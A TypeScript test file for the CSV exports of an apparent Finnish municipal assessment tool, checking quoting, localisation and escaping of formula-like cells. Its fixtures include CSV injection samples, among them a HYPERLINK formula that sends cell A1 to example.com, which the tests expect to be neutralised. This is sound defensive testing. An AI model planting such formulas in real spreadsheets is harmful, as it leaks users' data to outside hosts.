import fc from "fast-check";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { buildAssessment } from "../../tests/fixtures/build-assessment";
import { buildChecklist } from "../../tests/fixtures/build-checklist";
import { gapCsv, longCsv, toCsv, wideCsv } from "./csv";
import { perceptionGaps } from "./perception-gap";
import { alignMembers } from "./regional";

/** Parsed as a CSV library reads it: ";" between cells, CRLF between rows (a bare LF stays inside a cell). */
function parse(text: string): string[][] {
  const { data, errors } = Papa.parse<string[]>(text, { delimiter: ";", newline: "\r\n" });
  expect(errors).toEqual([]);
  // The CRLF after the last row leaves one empty line at the end.
  expect(data.pop()).toEqual([""]);
  return data;
}

// t1: i1, i2; t2: i3 — weights 1
const checklist = buildChecklist([
  {
    id: "t1",
    items: [
      { id: "i1", weight: 1 },
      { id: "i2", weight: 1 },
    ],
  },
  { id: "t2", items: [{ id: "i3", weight: 1 }] },
]);
const QUOTED_NOTE = 'Sanoi "kyllä"; sitten\nrivinvaihto';
const FORMULA_NOTE = '=HYPERLINK("http://example.com/?"&A1;"klikkaa")';
const turku = buildAssessment(
  { municipality: "Turku", code: "853" },
  {
    i1: { kind: "level", level: 3, note: QUOTED_NOTE },
    i2: "?",
    i3: { kind: "notApplicable", reason: "Ei koske.", note: FORMULA_NOTE },
  },
);
// A hostile name and note, for a place with no code.
const hostile = buildAssessment(
  { municipality: "=1+2", year: 2025 },
  { i1: 0, i2: { kind: "level", level: 2, note: "-5 % alennus" } },
);
const pargas = buildAssessment({ municipality: "Pargas", code: "445", role: "association" }, { i1: 1 });
const members = [turku, hostile, pargas];
const alignment = alignMembers(members, [checklist]);
if (alignment === null) throw new Error("the members' checklist is shipped");

const LONG_HEADER = [
  "municipality_code",
  "municipality",
  "region_code",
  "region",
  "wellbeing_county_code",
  "wellbeing_county",
  "year",
  "role",
  "checklist_id",
  "checklist_version",
  "theme_id",
  "item_id",
  "item_number",
  "answer",
  "level",
];
const TURKU_FI = [
  "853",
  "Turku",
  "02",
  "Varsinais-Suomi",
  "05",
  "Varsinais-Suomen hyvinvointialue",
  "2026",
  "municipality",
  "testi",
  "1.0.0",
];
const HOSTILE = ["", "'=1+2", "", "", "", "", "2025", "municipality", "testi", "1.0.0"];

describe("toCsv", () => {
  it("writes a byte-order mark, ; and CRLF, quotes what needs it and escapes what could run", () => {
    const text = toCsv(
      ["text", "number"],
      [
        ["=SUM(A1)", -2],
        ["+1", 1.5],
        ["-1", null],
        ["@x", 0],
        ["\tx", 12.25],
        ["\rx", Number.NaN],
        ["a;b", 3],
        ['say "hi"', 4],
        ["line\nbreak", 5],
        ["ok = fine", 6],
      ],
      { decimalComma: true },
    );
    expect(text).toBe(
      "\uFEFFtext;number\r\n" +
        "'=SUM(A1);-2\r\n" +
        "'+1;1,5\r\n" +
        "'-1;\r\n" +
        "'@x;0\r\n" +
        "'\tx;12,25\r\n" +
        '"\'\rx";\r\n' +
        '"a;b";3\r\n' +
        '"say ""hi""";4\r\n' +
        '"line\nbreak";5\r\n' +
        "ok = fine;6\r\n",
    );
    expect(text).not.toContain("sep=");
  });

  it("gives back any text through a CSV library, only a formula-like start marked with '", () => {
    const cells = fc.array(fc.string({ unit: "grapheme", maxLength: 12 }), { minLength: 1, maxLength: 4 });
    fc.assert(
      fc.property(fc.array(cells, { minLength: 1, maxLength: 5 }), (rows) => {
        const width = Math.max(...rows.map((row) => row.length));
        const even = rows.map((row) => [...row, ...Array<string>(width - row.length).fill("x")]);
        const header = even[0]?.map((_, c) => `c${c}`) ?? [];
        const expected = even.map((row) =>
          row.map((text) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text)),
        );
        expect(parse(toCsv(header, even, { decimalComma: true }))).toEqual([header, ...expected]);
      }),
    );
  });

  it("writes a decimal point without decimalComma", () => {
    expect(toCsv(["x"], [[1.5], [-0.25]], { decimalComma: false })).toBe("\uFEFFx\r\n1.5\r\n-0.25\r\n");
  });
});

describe("longCsv", () => {
  const fi = longCsv(alignment, members, { language: "fi", withNotes: false });

  it("has one row per assessment × item, under stable column ids", () => {
    expect(fi.startsWith("\uFEFFmunicipality_code;")).toBe(true);
    expect(fi.split("\r\n")[0]).toBe(`\uFEFF${LONG_HEADER.join(";")}`);
    const [header, ...rows] = parse(fi);
    expect(header).toEqual(LONG_HEADER);
    expect(rows).toEqual([
      [...TURKU_FI, "t1", "i1", "1.1", "level", "3"],
      [...TURKU_FI, "t1", "i2", "1.2", "dontKnow", ""],
      [...TURKU_FI, "t2", "i3", "2.1", "notApplicable", ""],
      [...HOSTILE, "t1", "i1", "1.1", "level", "0"],
      [...HOSTILE, "t1", "i2", "1.2", "level", "2"],
      [...HOSTILE, "t2", "i3", "2.1", "unanswered", ""],
      expect.arrayContaining(["445", "Parainen", "association", "i1", "level", "1"]),
      expect.arrayContaining(["Parainen", "i2", "unanswered"]),
      expect.arrayContaining(["Parainen", "i3", "unanswered"]),
    ]);
  });

  it("names municipalities, regions and counties in the language, column ids the same", () => {
    const sv = parse(longCsv(alignment, [pargas], { language: "sv", withNotes: false }));
    expect(sv[0]).toEqual(LONG_HEADER);
    expect(sv[1]?.slice(0, 6)).toEqual([
      "445",
      "Pargas",
      "02",
      "Egentliga Finland",
      "05",
      "Egentliga Finlands välfärdsområde",
    ]);
    const en = parse(longCsv(alignment, [pargas], { language: "en", withNotes: false }));
    expect(en[1]?.slice(0, 4)).toEqual(["445", "Parainen", "02", "Varsinais-Suomi"]);
  });

  it("adds notes only when asked, and they survive quotes, semicolons and line breaks", () => {
    expect(parse(fi).every((row) => row.length === LONG_HEADER.length)).toBe(true);
    expect(fi).not.toContain("kyllä");
    const [header, ...rows] = parse(longCsv(alignment, members, { language: "fi", withNotes: true }));
    expect(header).toEqual([...LONG_HEADER, "note"]);
    expect(rows.map((row) => row.at(-1))).toEqual([
      QUOTED_NOTE,
      "",
      `'${FORMULA_NOTE}`,
      "",
      "'-5 % alennus",
      "",
      "",
      "",
      "",
    ]);
  });

  it("never lets a name or note run as a formula: every cell starting like one is a number", () => {
    const rows = parse(longCsv(alignment, members, { language: "fi", withNotes: true }));
    const formulaLike = rows
      .flat()
      .filter((value) => /^[=+\-@\t\r]/.test(value) && !/^-?\d+(,\d+)?$/.test(value));
    expect(formulaLike).toEqual([]);
  });
});

describe("wideCsv", () => {
  const WIDE_HEADER = [
    ...LONG_HEADER.slice(0, 10),
    "overall_score",
    "coverage",
    "band",
    "provisional",
    "t1_score",
    "t2_score",
    "i1",
    "i2",
    "i3",
  ];

  it("has one row per assessment with scores, coverage, band, provisional and levels, decimal comma in fi", () => {
    const [header, ...rows] = parse(wideCsv(alignment, members, { language: "fi", withNotes: false }));
    expect(header).toEqual(WIDE_HEADER);
    expect(rows).toEqual([
      // Turku: t1 = i1 3 → 100 (i2 don't know, coverage 1/2); t2 all N/A, left out; overall 100, coverage 1/2
      [...TURKU_FI, "100", "0,5", "leading", "0", "100", "", "3", "", ""],
      // t1 = (0 + 2) / 6 = 33.3; t2 unanswered, so no overall score; coverage 2/3
      [...HOSTILE, "", "0,667", "", "0", "33,3", "", "0", "2", ""],
      // t1 = 1/3 → 33.3; coverage 1/3
      expect.arrayContaining(["Parainen", "association", "", "0,333", "33,3", "1"]),
    ]);
  });

  it("writes a decimal point in English and adds a note column per item with notes", () => {
    const [header, , second] = parse(wideCsv(alignment, members, { language: "en", withNotes: true }));
    expect(header).toEqual([...WIDE_HEADER, "i1_note", "i2_note", "i3_note"]);
    expect(second?.slice(10)).toEqual([
      "",
      "0.667",
      "",
      "0",
      "33.3",
      "",
      "0",
      "2",
      "",
      "",
      "'-5 % alennus",
      "",
    ]);
  });
});

describe("gapCsv", () => {
  // Turku against three associations: i1 levels 1, 2, 2 (median 2) against 3; i2 1, 2 (median 1.5), i3 none
  const associations = [
    buildAssessment(
      { municipality: "Turku", code: "853", role: "association", id: "yhdistys-1" },
      { i1: 1, i2: 1 },
    ),
    buildAssessment(
      { municipality: "Turku", code: "853", role: "association", id: "yhdistys-2" },
      { i1: 2, i2: 2 },
    ),
    buildAssessment({ municipality: "Turku", code: "853", role: "association", id: "yhdistys-3" }, { i1: 2 }),
  ];
  const gaps = perceptionGaps(turku, associations, [checklist]);
  if (gaps === null) throw new Error("the checklist is shipped");

  it("writes a row per theme, then per item in the gaps' order, numbers unescaped", () => {
    const [header, ...rows] = parse(gapCsv(gaps, { language: "fi" }));
    expect(header).toEqual([
      "scope",
      "theme_id",
      "item_id",
      "item_number",
      "own_answer",
      "own",
      "others_n",
      "others_min",
      "others_q1",
      "others_median",
      "others_q3",
      "others_max",
      "others_dont_know",
      "others_not_applicable",
      "others_unanswered",
      "gap",
      "flagged",
    ]);
    expect(rows).toEqual([
      // own t1 = 100; associations t1: (1 + 1) / 6 = 33.3, (2 + 2) / 6 = 66.7, 2 / 3 = 66.7
      //   → q1 = 33.3 + 0.5 × 33.3 = 50, median 66.7; gap 66.7 − 100 = −33.3
      ["theme", "t1", "", "", "", "100", "3", "33,3", "50", "66,7", "66,7", "66,7", "", "", "", "-33,3", ""],
      // own t2 all not applicable: no score; nobody answered i3
      ["theme", "t2", "", "", "", "", "0", "", "", "", "", "", "", "", "", "", ""],
      ["item", "t1", "i1", "1.1", "level", "3", "3", "1", "", "2", "", "2", "0", "0", "0", "-1", "0"],
      ["item", "t1", "i2", "1.2", "dontKnow", "", "2", "1", "", "1,5", "", "2", "0", "0", "1", "", "0"],
      ["item", "t2", "i3", "2.1", "notApplicable", "", "0", "", "", "", "", "", "0", "0", "3", "", "0"],
    ]);
  });

  it("writes a decimal point in English", () => {
    const rows = parse(gapCsv(gaps, { language: "en" }));
    expect(rows[4]?.[9]).toBe("1.5");
  });
});
